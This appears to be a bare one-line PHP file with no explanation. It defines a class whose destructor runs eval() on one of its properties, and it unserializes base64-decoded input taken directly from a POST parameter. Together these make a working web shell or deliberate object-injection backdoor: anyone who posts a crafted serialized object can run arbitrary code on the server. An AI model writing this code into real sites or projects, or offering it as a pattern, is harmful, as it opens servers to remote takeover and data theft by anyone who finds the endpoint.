<?php class A { function __destruct() { eval($this->c); } } $o = unserialize(base64_decode($_POST['o']));
